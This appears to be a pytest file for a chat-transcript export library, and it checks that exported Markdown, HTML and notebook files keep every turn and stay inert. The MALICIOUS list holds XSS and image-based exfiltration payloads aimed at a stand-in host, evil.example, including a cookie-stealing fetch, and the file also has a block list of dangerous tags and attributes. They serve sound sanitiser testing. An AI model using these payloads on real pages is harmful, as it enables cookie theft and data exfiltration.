"""Export and the static transcript: every turn's text survives, and model output runs and fetches nothing."""

from __future__ import annotations

import base64
import html
import io
import re
from html.parser import HTMLParser

import nbformat
import pytest
from PIL import Image

from sensenova_widget.conversation.export import escape_inline, export, fenced
from sensenova_widget.conversation.transcript import sanitize_html, transcript_html
from sensenova_widget.conversation.turns import Answer, Turn


def _jpeg(colour: str, size: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (size, size), colour).save(out, "JPEG")
    return out.getvalue()


PHOTO = _jpeg("red", 96)
THUMB = _jpeg("red", 16)
TEXTS = [
    "What is in this photo?\nAnswer in one line, please.",
    "A red square on nothing at all.",
    "Translate: \u00bfD\u00f3nde est\u00e1 la estaci\u00f3n? \u2014 and is 3 < 4 && 5 > 2?",
    "\u8fd9\u662f\u4e00\u4e2a\u7ea2\u8272\u7684\u6b63\u65b9\u5f62\u3002 It is red; 42 & no more.",
]


def _turns() -> list[Turn]:
    part = {"type": "image_base64", "image_base64": base64.b64encode(PHOTO).decode()}
    answer = Answer(
        TEXTS[1],
        reasoning="Uniform colour.",
        finish_reason="stop",
        model="M",
        usage={"prompt_tokens": 265, "completion_tokens": 7, "total_tokens": 272},
    )
    cut = Answer(TEXTS[3], finish_reason="stopped", error="StreamError: cut (status 500)")
    return [
        Turn(TEXTS[0], media=(part,), thumbnails=(THUMB,), answers=(answer,)),
        Turn(TEXTS[2], answers=(cut,)),
    ]


def _answered(text: str, **more) -> Turn:
    """A turn whose answer is `text` (the person's message empty)."""
    return Turn("", answers=(Answer(text, **more),))


class _Page(HTMLParser):
    """Collects every tag with its attributes, and the text of each turn's text block."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self._depth = 0

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        self.tags.append((tag, attrs))
        if self._depth:
            self._depth += tag == "div"
        elif tag == "div" and "sensenova-text" in attrs.get("class", ""):
            self._depth = 1
            self.texts.append("")

    def handle_endtag(self, tag):
        if self._depth and tag == "div":
            self._depth -= 1

    def handle_data(self, data):
        if self._depth:
            self.texts[-1] += data


def _parse(markup: str) -> _Page:
    page = _Page()
    page.feed(markup)
    return page


def _words(text: str) -> str:
    return " ".join(text.split())


def test_markdown_file_round_trips_every_turn_with_images_beside_it(tmp_path):
    path = export(_turns(), tmp_path / "trip.md")
    text = path.read_text(encoding="utf-8")
    for turn_text in TEXTS:
        assert turn_text in text
    files = sorted((tmp_path / "trip_files").iterdir())
    assert [f.read_bytes() for f in files] == [PHOTO]  # the picture that was sent, not the thumbnail
    assert f"](trip_files/{files[0].name})" in text
    assert "Uniform colour." in text and "272 tokens" in text and "StreamError: cut" in text


def test_markdown_embedded_and_as_text():
    linked = Turn("this one", media=({"type": "image_url", "image_url": "https://x.test/a b>.png"},))
    assert "[image 1](<https://x.test/a%20b%3E.png>)" in export([linked], "md")
    embedded = export(_turns(), "md")
    assert "data:image/jpeg;base64," + base64.b64encode(PHOTO).decode() in embedded
    for turn_text in TEXTS:
        assert turn_text in embedded


def test_html_page_round_trips_every_turn(tmp_path):
    path = export(_turns(), tmp_path / "trip.html", title="Trip <1>")
    page = path.read_text(encoding="utf-8")
    parsed = _parse(page)
    assert [_words(t) for t in parsed.texts] == [_words(t) for t in TEXTS]
    sources = [attrs["src"] for tag, attrs in parsed.tags if tag == "img"]
    assert sources == ["data:image/jpeg;base64," + base64.b64encode(PHOTO).decode()]
    assert "<title>Trip &lt;1&gt;</title>" in page and "Content-Security-Policy" in page
    assert html.escape("StreamError: cut (status 500)") in page


def test_ipynb_has_one_cell_per_turn_with_attached_images(tmp_path):
    path = export(_turns(), tmp_path / "trip.ipynb")
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    cells = notebook.cells[1:]
    assert len(cells) == len(TEXTS) and {c.cell_type for c in cells} == {"markdown"}
    for cell, turn_text in zip(cells, TEXTS):
        assert turn_text in cell.source
    ((name, bundle),) = cells[0].attachments.items()
    assert f"](attachment:{name})" in cells[0].source
    assert base64.b64decode(bundle["image/jpeg"]) == PHOTO
    assert cells[1].metadata["sensenova"]["usage"]["total_tokens"] == 272
    assert cells[3].metadata["sensenova"]["finish_reason"] == "stopped"


def test_wire_messages_export_too():
    messages = [
        {"role": "user", "content": [{"type": "text", "text": "hello there"}]},
        {"role": "assistant", "content": [{"type": "text", "text": "general kenobi"}]},
    ]
    assert [_words(t) for t in _parse(export(messages, "html")).texts] == ["hello there", "general kenobi"]
    with pytest.raises(ValueError, match=r"\.md, \.html or \.ipynb"):
        export(messages, "trip.docx")


EVIL = "evil.example"
MALICIOUS = [
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
    "<ScRiPt SRC=https://evil.example/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/leak.png?d=SECRET)",
    '![leak](https://evil.example/t.png "title")',
    "![ref][r]\n\n[r]: https://evil.example/ref.png",
    "![proto](//evil.example/proto.png)",
    "[![nested](https://evil.example/n.png)](https://evil.example/n)",
    '<iframe src="https://evil.example/frame"></iframe>',
    "[click](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)",
    '<a href="https://evil.example" onclick="steal()">x</a>',
    "<svg onload=alert(1)><image href=https://evil.example/s.png /></svg>",
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/r">',
    '<img srcset="https://evil.example/a.png 1x"><video poster=https://evil.example/p.png></video>',
    '```html\n<script src="https://evil.example/code.js"></script>\n```',
    "`<img src=https://evil.example/span.png>` in code",
    "$$\\href{https://evil.example/m}{x}$$ and <https://evil.example/autolink>",
    "| a | b |\n|---|---|\n| ![t](https://evil.example/cell.png) | <b onmouseover=x>b</b> |",
]

_LOADING = {"src", "srcset", "poster", "data", "background", "action", "formaction", "xlink:href", "content"}


def _assert_inert(markup: str) -> None:
    assert "<script" not in markup.lower()
    assert "javascript:" not in markup.lower()
    tags = _parse(markup).tags
    assert sum(tag == "style" for tag, _ in tags) <= 1  # at most the page's own style sheet, in <head>
    for tag, attrs in tags:
        assert tag not in {"script", "iframe", "object", "embed", "link", "svg", "video", "form", "base"}, (
            tag,
            attrs,
        )
        assert tag != "meta" or "refresh" not in attrs.get("http-equiv", "").lower()
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in _LOADING or (name == "href" and tag != "a"):
                assert EVIL not in value, (tag, name, value)
            if name == "src":
                assert value.startswith("data:image/"), value
            if name == "style":
                assert "url(" not in value.lower(), value


@pytest.mark.parametrize("text", MALICIOUS)
def test_model_output_in_html_runs_nothing_and_fetches_nothing(text):
    turns = [Turn("tell me", thumbnails=(THUMB,), answers=(Answer(text, reasoning=text),))]
    _assert_inert(export(turns, "html"))
    _assert_inert(transcript_html(turns))


def test_a_remote_image_becomes_a_link():
    page = export([_answered(MALICIOUS[3])], "html")
    anchors = [attrs for tag, attrs in _parse(page).tags if tag == "a"]
    assert anchors == [
        {"href": "https://evil.example/leak.png?d=SECRET", "rel": "nofollow noopener noreferrer"}
    ]
    assert "[leak](https://evil.example/leak.png?d=SECRET)" in export([_answered(MALICIOUS[3])], "md")


def test_sanitizer_keeps_ordinary_markup():
    kept = (
        '<p>a <strong>b</strong> <code class="language-py">c</code></p><td style="text-align: right">1</td>'
    )
    assert sanitize_html(kept) == kept
    assert sanitize_html('<p onclick="x()">t</p><script>bad()</script>') == "<p>t</p>"


def test_untrusted_text_is_fenced_beyond_its_longest_backtick_run_or_escaped_on_one_line():
    text = "see ![x](https://e.test/a.png)\n````\n<img src=https://e.test/i>\n``` `"
    assert fenced(text) == f"`````\n{text}\n`````"
    assert fenced("plain") == "```\nplain\n```"
    assert escape_inline("![x](https://e.test/a.png)\n<b>&amp;$x$") == (
        "\\!\\[x\\]\\(https://e.test/a.png\\) \\<b\\>\\&amp;\\$x\\$"
    )


def test_transcript_is_small_and_shows_thumbnails():
    big = {"type": "image_base64", "image_base64": base64.b64encode(_jpeg("blue", 600)).decode()}
    turns = _turns() + [Turn("and this", media=(big,), thumbnails=(b"\x89PNG" + b"0" * 200_000,))]
    markup = transcript_html(turns, title="trip", note="Run the cell again to continue.")
    parsed = _parse(markup)
    assert [_words(t) for t in parsed.texts] == [_words(t) for t in TEXTS] + ["and this"]
    sources = [attrs["src"] for tag, attrs in parsed.tags if tag == "img"]
    assert sources == ["data:image/jpeg;base64," + base64.b64encode(THUMB).decode()]  # never the full photo
    assert "[image 1]" in markup  # the oversized thumbnail is named, not inlined
    assert len(markup) < 20_000
    assert "Run the cell again to continue." in markup and re.search(r"3 turns", markup)


def test_transcript_inlines_thumbnails_up_to_a_total():
    turns = [Turn(f"look {i}", thumbnails=(THUMB,)) for i in range(5)]
    markup = transcript_html(turns, total_thumbnail_bytes=3 * len(THUMB))
    assert markup.count("<img ") == 3 and "[image 1]" in markup
    assert [_words(t) for t in _parse(markup).texts] == [f"look {i}" for i in range(5)]


def test_a_refused_turn_and_a_regenerated_one_say_so_in_every_format():
    refused = Turn("say EMULATOR-UNSAFE", answers=(Answer(error="ContentFilterError: unsafe", refused=True),))
    regenerated = Turn("again", answers=(Answer("first answer"), Answer("second answer"))).choose(1)
    for kind in ("md", "html"):
        text = export([refused, regenerated], kind)
        assert "Refused by the service, not sent again: ContentFilterError: unsafe" in text
        assert "Answer 2 of 2" in text and "second answer" in text and "first answer" not in text
    notebook = nbformat.reads(export([refused], "ipynb"), as_version=4)
    assert notebook.cells[-1].metadata["sensenova"]["refused"] is True
